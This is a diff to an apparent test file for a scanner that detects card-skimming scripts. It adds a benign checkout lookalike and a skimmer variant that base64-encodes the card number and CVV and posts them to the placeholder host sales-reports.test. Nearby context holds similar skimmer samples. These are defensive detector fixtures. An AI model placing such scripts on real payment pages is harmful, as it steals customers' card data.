@@ -715,6 +715,14 @@ LOOKALIKES: list[tuple[str, dict[str, str], str, Severity]] = [
             "//api.kartpay.example/v1/charge',contentType:'application/json',data:JSON."
             "stringify({cardNumber:$('#cardNumber').val(),cvv:$('#cvv').val()}),success:function"
             "(r){window.location=r.redirect;}});});});</script>")}, "form-skimmer", M),
+    ("a jQuery checkout that checks every input is filled, then posts the card to its "
+     "gateway", {"footer": _PAY_FORM + (
+         "<script>jQuery(function($){$('#submitButton').on('click',function(){var ok=true;$("
+         "'input').each(function(){if(!$(this).val()){$(this).addClass('has-error');ok=false;}}"
+         ");if(!ok)return;$.ajax({type:'POST',url:'https://api.kartpay.example/v1/charge',"
+         "contentType:'application/json',data:JSON.stringify({cardNumber:$('#cardNumber').val()"
+         ",cvv:$('#cvv').val()}),success:function(r){window.location=r.redirect;}});});});"
+         "</script>")}, "form-skimmer", M),
     ("British Airways' jQuery.ajax form, to a plain host: nothing else marks it", {
         "footer": SKIM_JQUERY_AJAX}, "form-skimmer", M),
     ("a gift card balance check picking its form by a class", {"footer": (
@@ -819,6 +827,10 @@ VARIANTS: list[tuple[str, dict[str, str], str]] = [
         "<script>$(document).on('mouseup touchend','#submitButton',function(){$.ajax({url:"
         "'https://sales-reports.test/api',method:'POST',data:{f:$('form').serialize(),c:$("
         "'#cardNumber').val()}});});</script>")}, "form-skimmer"),
+    ("$.ajax with its data object before its url, what it posts base64", {"footer": (
+        "<script>$(document).on('mouseup touchend','#submitButton',function(){$.ajax({type:"
+        "'POST',data:{d:btoa($('#cardNumber').val()+'|'+$('#cvv').val())},url:'https://"
+        "sales-reports.test/api'});});</script>")}, "form-skimmer"),
     ("a script after </html> on a brand beside sign-in words", {"after": (
         '<script src="https://paypal-secure-login.test/w.js"></script>')}, "appended-script"),
     ("a script after </html> on a brand beside a word, its digits for letters", {"after": (
@@ -851,6 +863,7 @@ def test_a_brand_the_pages_own_name_bears_dresses_none_of_its_hosts(
     ("https://cdn.bestradiostats.example/t.js", M),
     ("https://cdn.radio-static.example/app.js", L),  # as a word of it: the site's CDN
     ("https://static.radiowave-cdn.example/app.js", M),
+    ("https://radiocdn.example/app.js", L),  # an asset word glued on: the site's CDN too
 ])
 def test_only_the_pages_name_as_whole_words_makes_a_host_its_own(
         src: str, severity: Severity, audit_listed: AuditListed) -> None:
